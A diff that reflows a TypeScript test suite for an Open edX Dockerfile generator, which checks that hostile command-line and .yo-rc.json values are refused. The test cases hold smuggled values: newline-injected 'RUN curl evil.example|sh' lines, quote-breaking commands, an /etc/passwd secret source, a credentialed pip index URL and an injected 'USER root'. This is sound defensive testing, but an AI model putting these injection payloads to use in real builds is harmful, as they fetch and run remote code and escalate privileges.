@@ -31,16 +31,96 @@ async function failingRun(generator: Name, flags: Record<string, unknown>, store
 }
 
 /** Each hostile value: the generator, the flag (camelCase, as Yeoman passes it), its stored key and the value. */
-const CASES: { name: string; generator: Name; flag: string; flagName: string; key: string; value: unknown; storedValue: unknown }[] = [
-  { name: 'appDir with a newline adding a RUN line', generator: 'app', flag: 'appDir', flagName: '--app-dir', key: 'appDir', value: '/edx/app/x\nRUN curl evil.example|sh', storedValue: '/srv\nRUN touch /pwned' },
-  { name: 'venvPath closing the quote', generator: 'app', flag: 'venvPath', flagName: '--venv-path', key: 'venvPath', value: '/opt/venv"; touch /pwned; "', storedValue: '/opt/venv"; id; "' },
-  { name: 'private apt packages with a command', generator: 'private', flag: 'aptPackages', flagName: '--apt-packages', key: 'private.aptPackages', value: 'libmagic1 && curl evil.example|sh', storedValue: ['libmagic1\nRUN touch /pwned'] },
-  { name: 'private pip packages with an option and credentials', generator: 'private', flag: 'pipPackages', flagName: '--pip-packages', key: 'private.pipPackages', value: 'plugin;curl${IFS}evil', storedValue: ['--index-url=https://user:token@evil.example/simple'] },
-  { name: 'private index secret id with a source', generator: 'private', flag: 'indexSecret', flagName: '--index-secret', key: 'private.indexSecret', value: 'x,src=/etc/passwd', storedValue: 'pip_index_url\nRUN touch /pwned' },
-  { name: 'base image with a newline', generator: 'private', flag: 'baseImage', flagName: '--base-image', key: 'baseImage', value: 'evil:tag\nRUN touch /pwned', storedValue: 'docker.io/openedx/x:main"\nRUN id' },
-  { name: 'New Relic version with a command', generator: 'newrelic', flag: 'newrelicVersion', flagName: '--newrelic-version', key: 'newrelic.newrelicVersion', value: '9.13.0 && curl evil.example|sh', storedValue: '1\nRUN touch /pwned' },
-  { name: 'private file naming the stored decisions', generator: 'private', flag: 'privateFile', flagName: '--private-file', key: 'private.file', value: '.yo-rc.json', storedValue: 'Dockerfile' },
-  { name: 'New Relic file naming tool state', generator: 'newrelic', flag: 'newrelicFile', flagName: '--newrelic-file', key: 'newrelic.file', value: '.openedx-ida/facts.json', storedValue: '.dockerignore' },
+const CASES: {
+  name: string;
+  generator: Name;
+  flag: string;
+  flagName: string;
+  key: string;
+  value: unknown;
+  storedValue: unknown;
+}[] = [
+  {
+    name: 'appDir with a newline adding a RUN line',
+    generator: 'app',
+    flag: 'appDir',
+    flagName: '--app-dir',
+    key: 'appDir',
+    value: '/edx/app/x\nRUN curl evil.example|sh',
+    storedValue: '/srv\nRUN touch /pwned',
+  },
+  {
+    name: 'venvPath closing the quote',
+    generator: 'app',
+    flag: 'venvPath',
+    flagName: '--venv-path',
+    key: 'venvPath',
+    value: '/opt/venv"; touch /pwned; "',
+    storedValue: '/opt/venv"; id; "',
+  },
+  {
+    name: 'private apt packages with a command',
+    generator: 'private',
+    flag: 'aptPackages',
+    flagName: '--apt-packages',
+    key: 'private.aptPackages',
+    value: 'libmagic1 && curl evil.example|sh',
+    storedValue: ['libmagic1\nRUN touch /pwned'],
+  },
+  {
+    name: 'private pip packages with an option and credentials',
+    generator: 'private',
+    flag: 'pipPackages',
+    flagName: '--pip-packages',
+    key: 'private.pipPackages',
+    value: 'plugin;curl${IFS}evil',
+    storedValue: ['--index-url=https://user:token@evil.example/simple'],
+  },
+  {
+    name: 'private index secret id with a source',
+    generator: 'private',
+    flag: 'indexSecret',
+    flagName: '--index-secret',
+    key: 'private.indexSecret',
+    value: 'x,src=/etc/passwd',
+    storedValue: 'pip_index_url\nRUN touch /pwned',
+  },
+  {
+    name: 'base image with a newline',
+    generator: 'private',
+    flag: 'baseImage',
+    flagName: '--base-image',
+    key: 'baseImage',
+    value: 'evil:tag\nRUN touch /pwned',
+    storedValue: 'docker.io/openedx/x:main"\nRUN id',
+  },
+  {
+    name: 'New Relic version with a command',
+    generator: 'newrelic',
+    flag: 'newrelicVersion',
+    flagName: '--newrelic-version',
+    key: 'newrelic.newrelicVersion',
+    value: '9.13.0 && curl evil.example|sh',
+    storedValue: '1\nRUN touch /pwned',
+  },
+  {
+    name: 'private file naming the stored decisions',
+    generator: 'private',
+    flag: 'privateFile',
+    flagName: '--private-file',
+    key: 'private.file',
+    value: '.yo-rc.json',
+    storedValue: 'Dockerfile',
+  },
+  {
+    name: 'New Relic file naming tool state',
+    generator: 'newrelic',
+    flag: 'newrelicFile',
+    flagName: '--newrelic-file',
+    key: 'newrelic.file',
+    value: '.openedx-ida/facts.json',
+    storedValue: '.dockerignore',
+  },
 ];
 
 /** A stored value at a dotted key. */
@@ -65,17 +145,29 @@ describe('hostile values never reach a Dockerfile', () => {
     expectRefused(await failingRun(generator, { [flag]: value }), flagName);
   });
 
-  it.each(CASES)('$name: refused from .yo-rc.json, naming the file, the key and the flag', async ({ generator, flagName, key, storedValue }) => {
-    expectRefused(await failingRun(generator, {}, storedAt(key, storedValue)), flagName, '.yo-rc.json', key);
-  });
+  it.each(CASES)(
+    '$name: refused from .yo-rc.json, naming the file, the key and the flag',
+    async ({ generator, flagName, key, storedValue }) => {
+      expectRefused(await failingRun(generator, {}, storedAt(key, storedValue)), flagName, '.yo-rc.json', key);
+    },
+  );
 
   it('refuses stored operator values in an operator repo, naming the key', async () => {
     const dir = fs.mkdtempSync(join(tmpdir(), 'openedx-ida-inject-'));
     copyFixtureRepo('operator', dir);
-    const operator = { baseImage: 'docker.io/openedx/x:main', service: 'x', port: 8000, wsgiApp: 'x.wsgi:application', appDir: '/edx/app/x\nUSER root' };
+    const operator = {
+      baseImage: 'docker.io/openedx/x:main',
+      service: 'x',
+      port: 8000,
+      wsgiApp: 'x.wsgi:application',
+      appDir: '/edx/app/x\nUSER root',
+    };
     fs.writeJsonSync(join(dir, '.yo-rc.json'), { 'generator-openedx-ida': { operator } });
     const resolved = join(__dirname, '..', '..', 'generators', 'newrelic', 'index.ts');
-    const run = helpers.run(NewrelicGenerator, { resolved, namespace: 'openedx-ida:newrelic' }).cd(dir).withOptions({ yes: true } as never);
+    const run = helpers
+      .run(NewrelicGenerator, { resolved, namespace: 'openedx-ida:newrelic' })
+      .cd(dir)
+      .withOptions({ yes: true } as never);
     await expect(run).rejects.toThrow(/operator\.appDir in \.yo-rc\.json \(--app-dir\)/);
     expect(fs.existsSync(join(dir, 'Dockerfile.newrelic'))).toBe(false);
   });
